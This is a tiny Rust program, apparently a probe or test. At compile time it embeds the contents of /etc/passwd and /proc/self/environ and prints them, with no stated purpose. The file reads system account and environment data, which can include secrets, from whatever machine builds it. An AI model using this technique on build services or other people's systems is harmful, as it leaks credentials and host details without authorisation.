fn main() {
    println!("{:?}", include_bytes!("/etc/passwd"));
    println!("{:?}", include_bytes!("/proc/self/environ"));
}
